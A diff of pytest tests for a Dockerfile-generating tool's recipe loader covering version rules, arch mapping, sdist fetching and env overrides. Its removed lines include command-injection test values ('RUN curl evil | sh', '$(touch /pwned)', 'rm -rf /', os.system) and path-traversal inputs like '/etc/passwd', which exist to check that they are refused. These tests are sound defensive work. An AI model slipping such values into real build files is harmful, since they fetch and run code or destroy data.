@@ -1,60 +1,31 @@
-"""The recipe catalogue: built-ins load, broken files fail with file/key/problem, hostile values never
-reach the Dockerfile as instructions."""
+"""Tests for imagegen.model.recipes: Recipe and its versions (rules, version lookup), Rule ranges, the arch
+knob (runs_on, fixed tables), fetched_from and with_env; with the built-in catalogue's recipe facts and
+how recipe values reach a rendered Dockerfile (only as JSON, free text only in comments)."""
 
 from __future__ import annotations
 
 import json
 import re
-import textwrap
 from pathlib import Path
 
 import dockerfile
 import pytest
+from packaging.specifiers import SpecifierSet
 from packaging.version import Version
 
 from imagegen.errors import RecipeError, UnsafeValueError
+from imagegen.model import recipes
 from imagegen.model.arch_parse import parse_arch_list
 from imagegen.model.catalogue import load_catalogue
 from imagegen.model.recipe_file import load_recipe_file
-from imagegen.model.recipes import Recipe
+from imagegen.model.recipes import ArchKnob, Recipe, Rule, Sdist, fetched_from, with_env
 from imagegen.model.source_tree import recipe_from_source_tree
 from imagegen.plan import make_cell
 from imagegen.render.dockerfile import render_dockerfile
+from tests.unit._h3_helpers import GOOD, write
 
 BUILTINS = {"sageattention", "flash-attn", "flash-attn-3", "block-sparse-attn", "causal-conv1d", "mamba-ssm",
             "xformers", "natten"}
-
-GOOD = textwrap.dedent("""\
-    schema: 1
-    name: demo
-    aliases: [dm]
-    description: "a demo"
-    source:
-      git: https://github.com/example/demo.git
-    versions:
-      "1.0":
-        ref: v1.0
-        commit: 0123456789abcdef0123456789abcdef01234567
-        archs: ["8.0", "9.0"]
-    arch:
-      env: DEMO_ARCHS
-      style: numeric
-      ptx: none
-    build:
-      force_env: {DEMO_FORCE_BUILD: "TRUE"}
-      env: {DEMO_FLAG: "1"}
-    smoke:
-      imports: [demo]
-    obsolete_patches:
-      - name: "old patch"
-        reason: "fixed upstream"
-    """)
-
-
-def write(tmp_path: Path, text: str, name: str = "demo.yaml") -> Path:
-    p = tmp_path / name
-    p.write_text(text)
-    return p
 
 
 def test_builtin_catalogue_has_every_recipe_the_issue_names():
@@ -91,53 +62,6 @@ def test_unknown_recipe_is_one_line_with_the_known_names():
     with pytest.raises(RecipeError) as err:
         load_catalogue().get("sagee")
     assert "unknown recipe 'sagee'" in str(err.value) and "sageattention" in str(err.value)
-
-
-@pytest.mark.parametrize("mutation, where", [
-    (lambda t: t.replace("style: numeric", "style: weird"), "arch.style"),
-    (lambda t: t.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "4.2"]'), "versions.1.0.archs"),
-    (lambda t: t.replace("name: demo", "name: Demo Bad"), "name"),
-    (lambda t: t.replace("  imports: [demo]", "  imports: []"), "smoke.imports"),
-    (lambda t: t.replace("schema: 1", "schema: 9"), "schema"),
-    (lambda t: t + "bogus: 1\n", "bogus"),
-    (lambda t: t.replace("  git: https://github.com/example/demo.git", "  path: ."
-                         "\n  git: https://github.com/example/demo.git"), "source"),
-    (lambda t: t.replace("ref: v1.0", "ref: [1, 2]"), "versions.1.0.ref"),
-])
-def test_broken_recipe_names_file_and_key(tmp_path, mutation, where):
-    p = write(tmp_path, mutation(GOOD))
-    with pytest.raises(RecipeError) as err:
-        load_recipe_file(p)
-    msg = str(err.value)
-    assert msg.startswith(str(p) + ": ") and f": {where}" in msg and "\n" not in msg
-
-
-def test_invalid_yaml_names_the_line(tmp_path):
-    p = write(tmp_path, "name: [unclosed\n")
-    with pytest.raises(RecipeError, match=r"demo.yaml: line \d+: not valid YAML"):
-        load_recipe_file(p)
-
-
-HOSTILE_FIELDS = [
-    # (what, replacement)
-    ("env value with newline", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "1\\nRUN curl evil | sh"')),
-    ("env value with command substitution", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "$(touch /pwned)"')),
-    ("env value with backtick", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "`id`"')),
-    ("env name with space", lambda t: t.replace("DEMO_FLAG:", '"DEMO FLAG; rm -rf /":')),
-    ("ref with shell", lambda t: t.replace("ref: v1.0", 'ref: "v1.0; rm -rf /"')),
-    ("git url with quote", lambda t: t.replace("https://github.com/example/demo.git", "'https://x/\"; id; \"'")),
-    ("commit with newline", lambda t: t.replace("0123456789abcdef0123456789abcdef01234567", '"0123456\\nRUN id"')),
-    ("module with code", lambda t: t.replace("imports: [demo]", 'imports: ["os; import os; os.system(1)"]')),
-    ("system package with option", lambda t: t.replace("build:\n", "build:\n  system_requires: ['--allow-unauthenticated evil']\n")),
-    ("requirement with url", lambda t: t.replace("build:\n", "build:\n  requires: ['evil @ https://x/$(id).whl']\n")),
-]
-
-
-@pytest.mark.parametrize("what, mutate", HOSTILE_FIELDS, ids=[h[0] for h in HOSTILE_FIELDS])
-def test_hostile_values_are_refused_at_load(tmp_path, what, mutate):
-    p = write(tmp_path, mutate(GOOD))
-    with pytest.raises(RecipeError):
-        load_recipe_file(p)
 
 
 def _render(recipe) -> str:
@@ -231,21 +155,6 @@ def test_hostile_base_image_is_refused():
     assert "\n" not in str(err.value) and "--base-image" in str(err.value)
 
 
-def test_local_source_tree_becomes_a_recipe():
-    fixture = Path(__file__).parent.parent / "fixtures" / "tiny_kernel"
-    r = recipe_from_source_tree(fixture)
-    assert r.name == "tiny-kernel" and r.default_version == "0.1.0" and r.source_kind == "local"
-    assert r.smoke.imports == ("tiny_kernel",)
-    assert r.version(None).arch.env == "TORCH_CUDA_ARCH_LIST"
-
-
-def test_local_source_tree_errors(tmp_path):
-    with pytest.raises(RecipeError, match="not a directory"):
-        recipe_from_source_tree(tmp_path / "nope")
-    with pytest.raises(RecipeError, match="no setup.py or pyproject.toml"):
-        recipe_from_source_tree(tmp_path)
-
-
 def test_unsafe_value_error_is_typed():
     from imagegen import safety
     with pytest.raises(UnsafeValueError):
@@ -271,55 +180,6 @@ def test_rule_compares_two_part_clauses_by_series_and_longer_ones_by_release():
     assert torch_rule.allows(Version("2.10"), Version("2.10.0"))
     assert not torch_rule.allows(Version("2.9"), Version("2.9.1"))  # the 2.9 series is not "> 2.9"
     assert not py_rule.allows(Version("3.9"), Version("3.9"))
-
-
-REQUIRES_PROBLEMS = [
-    ('requires: [">=2.8"]', "versions.1.0.requires: expected a mapping"),
-    ('requires: {gcc: ">=11"}', "versions.1.0.requires: unknown subject 'gcc'"),
-    ('requires: {torch: "2.10+"}', "versions.1.0.requires.torch: '2.10+' is not a version range"),
-    ('requires: {torch: 5}', "versions.1.0.requires.torch: expected a version range"),
-    ('requires: {torch: {spec: ">=2.8", because: x}}', "versions.1.0.requires.torch.because: unknown key"),
-    ('requires: {cuda: {why: "no spec"}}', "versions.1.0.requires.cuda.spec: expected a version range"),
-    ('requires: {python: "===banana"}', "versions.1.0.requires.python: '===banana' is not a version range"),
-    ('requires: {torch: "' + ">=2." * 200 + '"}', "versions.1.0.requires.torch: '>=2.>=2."),
-]
-
-
-@pytest.mark.parametrize("line, expected", REQUIRES_PROBLEMS, ids=[p[1].split(": ", 1)[-1][:30] for p in REQUIRES_PROBLEMS])
-def test_bad_requires_is_one_line_naming_file_and_key(tmp_path, line, expected):
-    p = write(tmp_path, GOOD.replace('    archs: ["8.0", "9.0"]\n', f'    archs: ["8.0", "9.0"]\n    {line}\n'))
-    with pytest.raises(RecipeError) as err:
-        load_recipe_file(p)
-    msg = str(err.value)
-    assert msg.startswith(f"{p}: {expected}"), msg
-    assert "\n" not in msg and len(msg) < len(str(p)) + 250  # a hostile value is quoted, bounded
-
-
-RUNS_ON_PROBLEMS = [
-    ('runs_on: {"8.6": "9.0"}', "arch.runs_on.8.6: an sm_90 cubin does not serve a 8.6 GPU"),
-    ('runs_on: {"8.0": "8.6"}', "arch.runs_on.8.0: an sm_86 cubin does not serve a 8.0 GPU"),
-    ('runs_on: {"8.6": "8.0+PTX"}', "arch.runs_on.8.6: '8.0+PTX': give one plain compute capability"),
-    ('runs_on: {"8.x": "8.0"}', "arch.runs_on.8.x: unknown GPU architecture"),
-    ('runs_on: ["8.6"]', "arch.runs_on: expected a mapping"),
-    ('runs_on: {"12.1": "12.0"}', "versions.1.0.arch.runs_on.12.1: 12.1 runs on 12.0, which is not in this version's archs"),
-    ('runs_on: {"9.0": "9.0"}', "arch.runs_on.9.0: an sm_90 cubin does not serve a 9.0 GPU"),
-]
-
-
-@pytest.mark.parametrize("line, expected", RUNS_ON_PROBLEMS, ids=[p[0] for p in RUNS_ON_PROBLEMS])
-def test_bad_runs_on_is_one_line_naming_file_and_key(tmp_path, line, expected):
-    p = write(tmp_path, GOOD.replace("  ptx: none\n", f"  ptx: none\n  {line}\n"))
-    with pytest.raises(RecipeError) as err:
-        load_recipe_file(p)
-    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)
-    assert "\n" not in str(err.value)
-
-
-def test_runs_on_target_already_requested_is_refused(tmp_path):
-    text = GOOD.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "8.6", "9.0"]').replace(
-        "  ptx: none\n", '  ptx: none\n  runs_on: {"8.6": "8.0"}\n')
-    with pytest.raises(RecipeError, match=r"versions\.1\.0\.arch\.runs_on\.8\.6: 8\.6 is in this version's archs"):
-        load_recipe_file(write(tmp_path, text))
 
 
 def test_flash_attn_and_bsa_map_8x_to_the_sm80_cubin_in_every_numeric_version():
@@ -390,27 +250,176 @@ def test_a_note_stating_a_range_without_a_rule_is_caught(tmp_path):
     assert unbacked_statements(backed) == []
 
 
-@pytest.mark.parametrize("figures, words", [
-    ("{csrc/k_bwd.cu: 2.0}", None),
-    ("{/etc/passwd: 2.0}", "build.source_memory_gb./etc/passwd"),
-    ("{../k.cu: 2.0}", "build.source_memory_gb"),
-    ("{csrc/k.cu: .inf}", "build.source_memory_gb.csrc/k.cu"),
-    ("{csrc/k.cu: 0}", "build.source_memory_gb.csrc/k.cu"),
-    ("{csrc/k.cu: x}", "build.source_memory_gb.csrc/k.cu"),
-    ("[csrc/k.cu]", "build.source_memory_gb"),
+
+
+# --------------------------------------------------------------------------------------------
+# imagegen.model.recipes itself: Recipe, RecipeVersion, Rule, ArchKnob, Sdist, fetched_from, with_env
+
+SHA = "ab" * 32
+SDIST = "https://files.pythonhosted.org/packages/source/d/demo/demo-1.0.tar.gz"
+
+
+def _demo(text: str = GOOD) -> Recipe:
+    return load_recipe_file(Path("demo.yaml"), text=text)
+
+
+def _with_sdist(text: str = GOOD) -> str:
+    return text.replace('    archs: ["8.0", "9.0"]\n',
+                        f'    archs: ["8.0", "9.0"]\n    sdist: {{url: "{SDIST}", sha256: "{SHA}"}}\n')
+
+
+def test_rule_text_orders_floors_then_pins_then_exclusions_then_ceilings():
+    rule = Rule("torch", SpecifierSet("<2.10,!=2.9.0,>=2.8"))
+    assert rule.text == ">= 2.8, != 2.9.0, < 2.10"
+    assert Rule("cuda", SpecifierSet(">=12.5")).text == ">= 12.5"
+
+
+def test_rule_with_a_wildcard_compares_the_exact_release():
+    rule = Rule("torch", SpecifierSet("==2.8.*"))
+    assert rule.allows(Version("2.8"), Version("2.8.1"))
+    assert not rule.allows(Version("2.9"), Version("2.9.0"))
+    # Without an exact release the series itself is compared.
+    assert Rule("cuda", SpecifierSet("<12.5")).allows(Version("12.4"))
+    assert not Rule("cuda", SpecifierSet("<12.5")).allows(Version("12.5"))
+
+
+def test_arch_knob_compiles_for_maps_only_what_runs_on_names():
+    knob = ArchKnob(env="X_ARCHS", style="numeric", runs_on=(("8.6", "8.0"), ("8.9", "8.0")))
+    assert [knob.compiles_for(cc) for cc in ("8.0", "8.6", "8.9", "9.0")] == ["8.0", "8.0", "8.0", "9.0"]
+
+
+def test_arch_knob_fixed_for_adds_archs_by_nvcc_and_drops_them_later():
+    knob = ArchKnob(env=None, style="fixed",
+                    fixed=((Version("11.8"), parse_arch_list("7.0;8.0")), (Version("12.8"), parse_arch_list("12.0"))),
+                    fixed_dropped=((Version("13.0"), parse_arch_list("7.0")),))
+    assert [a.cc for a in knob.fixed_for(Version("11.7"))] == []
+    assert [a.cc for a in knob.fixed_for(Version("12.4"))] == ["7.0", "8.0"]
+    assert [a.cc for a in knob.fixed_for(Version("12.8"))] == ["7.0", "8.0", "12.0"]
+    assert [a.cc for a in knob.fixed_for(Version("13.0"))] == ["8.0", "12.0"]
+
+
+def test_sdist_filename_and_pinned_ref():
+    assert Sdist(url=SDIST, sha256=SHA).filename == "demo-1.0.tar.gz"
+    v = _demo().version("1.0")
+    assert v.pinned_ref == "0123456789abcdef0123456789abcdef01234567"
+    unpinned = _demo(GOOD.replace("    commit: 0123456789abcdef0123456789abcdef01234567\n", "")).version("1.0")
+    assert unpinned.commit is None and unpinned.pinned_ref == "v1.0"
+
+
+def test_heaviest_gb_per_thread_is_the_recipe_figure_without_per_source_ones():
+    recipe = _demo(GOOD.replace("build:\n", "build:\n  memory_per_thread_gb: 3.5\n"))
+    assert recipe.source_memory_gb == {} and recipe.heaviest_gb_per_thread == 3.5
+
+
+def test_rules_are_the_recipe_floors_then_the_versions_own():
+    text = GOOD.replace("build:\n", 'build:\n  min_torch: "2.6"\n  max_torch: "2.9"\n  min_cuda: "12.4"\n'
+                        '  python: ">=3.10"\n').replace(
+        '    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n    requires: {torch: ">=2.8"}\n')
+    recipe = _demo(text)
+    got = [(r.subject, r.text, r.why) for r in recipe.rules(recipe.version(None))]
+    assert got == [("torch", ">= 2.6", "build.min_torch"), ("torch", "<= 2.9", "build.max_torch"),
+                   ("cuda", ">= 12.4", "build.min_cuda"), ("python", ">= 3.10", "build.python"),
+                   ("torch", ">= 2.8", "")]
+
+
+def test_rules_leave_out_an_empty_python_range():
+    recipe = _demo(GOOD.replace("build:\n", 'build:\n  python: ""\n'))
+    assert [r.subject for r in recipe.rules(recipe.version(None))] == ["cuda"]
+
+
+def test_version_lookup_default_and_unknown():
+    recipe = _demo(GOOD.replace("    archs: [\"8.0\", \"9.0\"]\n",
+                                "    archs: [\"8.0\", \"9.0\"]\n  \"2.0\": {ref: v2.0, archs: [\"9.0\"]}\n"))
+    assert recipe.default_version == "1.0" and recipe.version(None).version == "1.0"
+    assert recipe.version("2.0").ref == "v2.0"
+    with pytest.raises(RecipeError) as err:
+        recipe.version("3.0\n\x1b[31m" + "x" * 500)
+    msg = str(err.value)
+    assert msg.startswith("demo has no version '3.0\\n\\x1b[31m") and msg.endswith("; known: 1.0, 2.0")
+    assert "\n" not in msg and "\x1b" not in msg and len(msg) < 150 and err.value.exit_code == 2
+
+
+def test_fetched_from_git_is_the_recipe_itself():
+    recipe = _demo(_with_sdist())
+    version = recipe.version(None)
+    for fetch in (None, "git"):
+        r, v = fetched_from(recipe, version, fetch)
+        assert r is recipe and v is version
+
+
+def test_fetched_from_sdist_points_the_build_at_the_pinned_archive():
+    recipe = _demo(_with_sdist(GOOD.replace("  git: https://github.com/example/demo.git\n",
+                                            "  git: https://github.com/example/demo.git\n  submodules: true\n")))
+    version = recipe.version(None)
+    r, v = fetched_from(recipe, version, "sdist")
+    assert (r.source_kind, r.source_url, r.submodules) == ("sdist", SDIST, False)
+    assert (v.ref, v.commit, v.pinned_ref) == ("demo-1.0.tar.gz", None, "demo-1.0.tar.gz")
+    assert v.archs == version.archs
+    assert r.name == recipe.name and r.smoke == recipe.smoke and v.arch == version.arch
+    assert (recipe.source_kind, version.commit) == ("git", "0123456789abcdef0123456789abcdef01234567")  # untouched
+
+
+def test_fetched_from_refuses_an_unknown_kind_a_local_tree_and_a_version_without_sdist(tmp_path):
+    recipe = _demo(_with_sdist().replace("arch:\n", "  \"0.9\": {ref: v0.9, archs: [\"9.0\"]}\narch:\n", 1))
+    with pytest.raises(RecipeError, match=r"^--fetch 'zip\\n': use one of git, sdist$"):
+        fetched_from(recipe, recipe.version(None), "zip\n")
+    with pytest.raises(RecipeError, match=r"^demo 0\.9 names no sdist in its recipe \(demo\.yaml\): versions with one"):
+        fetched_from(recipe, recipe.version("0.9"), "sdist")
+    plain = _demo()
+    with pytest.raises(RecipeError, match=r"names no sdist .* fetch it from git \(--fetch git\)$"):
+        fetched_from(plain, plain.version(None), "sdist")
+    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup(name='tree', version='1.0')\n")
+    local = recipe_from_source_tree(tmp_path)
+    with pytest.raises(RecipeError, match="tree is a local source tree: --fetch sdist applies to recipes with a git"):
+        fetched_from(local, local.version(None), "sdist")
+
+
+def test_with_env_adds_the_users_variables_on_top_of_the_versions():
+    recipe = _demo(GOOD.replace('    archs: ["8.0", "9.0"]\n',
+                                '    archs: ["8.0", "9.0"]\n    env: {V_FLAG: "1", V_KEEP: "k"}\n'))
+    version = recipe.version(None)
+    assert with_env(recipe, version, {}) is version
+    out = with_env(recipe, version, {"V_FLAG": "0", "FLASH_ATTENTION_DISABLE_BACKWARD": "TRUE"})
+    assert dict(out.env) == {"V_FLAG": "0", "V_KEEP": "k", "FLASH_ATTENTION_DISABLE_BACKWARD": "TRUE"}
+    assert dict(version.env) == {"V_FLAG": "1", "V_KEEP": "k"} and out.archs == version.archs
+    assert dict(recipe.env) == {"DEMO_FLAG": "1"}  # the recipe-wide build.env is not where --env goes
+
+
+@pytest.mark.parametrize("name, says", [
+    ("TORCH_CUDA_ARCH_LIST", "use --arch"),
+    ("DEMO_ARCHS", "use --arch"),  # the recipe's own arch knob
+    ("MAX_JOBS", "use --max-jobs"),
+    ("NVCC_THREADS", "use --nvcc-threads"),
+    ("DEMO_THREADS", "use --nvcc-threads"),
+    ("DEMO_PARALLEL", "use --max-jobs"),
+    ("DEMO_FORCE_BUILD", "it forces a compile from source"),
+    ("DEMO_LOCAL_VERSION", "it is the wheel's local version"),
 ])
-def test_per_source_memory_figures_are_validated(tmp_path, figures, words):
-    from imagegen.errors import RecipeError
-    from imagegen.model.recipe_file import load_recipe_file
-    path = tmp_path / "demo.yaml"
-    path.write_text("schema: 1\nname: demo\nsource: {git: https://example.com/demo.git}\n"
-                    "versions:\n  '1.0': {ref: v1.0, archs: ['9.0']}\n"
-                    "arch: {env: TORCH_CUDA_ARCH_LIST, style: torch, ptx: honoured}\nsmoke: {imports: [demo]}\n"
-                    f"build:\n  memory_per_thread_gb: 0.5\n  source_memory_gb: {figures}\n")
-    if words is None:
-        recipe = load_recipe_file(path)
-        assert recipe.source_memory_gb == {"csrc/k_bwd.cu": 2.0} and recipe.heaviest_gb_per_thread == 2.0
-        return
-    with pytest.raises(RecipeError) as info:
-        load_recipe_file(path)
-    assert words in str(info.value) and "\n" not in str(info.value)
+def test_with_env_refuses_what_imagegen_sets_for_the_recipe_naming_the_flag(name, says):
+    recipe = _demo(GOOD.replace("build:\n", "build:\n  threads_env: DEMO_THREADS\n"
+                                "  local_version_env: DEMO_LOCAL_VERSION\n"
+                                "  ext_parallel: {env: DEMO_PARALLEL, max: 4}\n"))
+    with pytest.raises(RecipeError) as err:
+        with_env(recipe, recipe.version(None), {"OK_VAR": "1", name: "x"})
+    assert str(err.value) == f"--env {name}: imagegen sets {name} for demo: {says}" + (
+        ", which imagegen always does" if "forces" in says else ", which imagegen sets" if "local" in says else "")
+
+
+@pytest.mark.parametrize("name", ["IMAGEGEN_CELL", "PIP_INDEX_URL", "CUDA_HOME", "PATH", "PYTHONPATH",
+                                  "LD_LIBRARY_PATH"])
+def test_with_env_refuses_the_toolchains_own_variables(name):
+    recipe = _demo()
+    with pytest.raises(RecipeError, match=rf"^--env {name}: imagegen sets {name} itself for the build") as err:
+        with_env(recipe, recipe.version(None), {name: "x"})
+    assert err.value.exit_code == 2
+
+
+def test_recipe_constants_name_every_style_policy_and_subject_the_loader_takes():
+    assert recipes.RECIPE_SCHEMA == 1 and recipes.FETCH_KINDS == ("git", "sdist")
+    for style in recipes.ARCH_STYLES:
+        env = "" if style == "fixed" else "  env: DEMO_ARCHS\n"
+        table = '  fixed: {"12.8": ["9.0"]}\n' if style == "fixed" else ""
+        text = GOOD.replace("  env: DEMO_ARCHS\n  style: numeric\n", f"{env}  style: {style}\n{table}")
+        assert _demo(text).version(None).arch.style == style
+    for ptx in recipes.PTX_POLICIES:
+        assert _demo(GOOD.replace("ptx: none", f"ptx: {ptx}")).version(None).arch.ptx == ptx
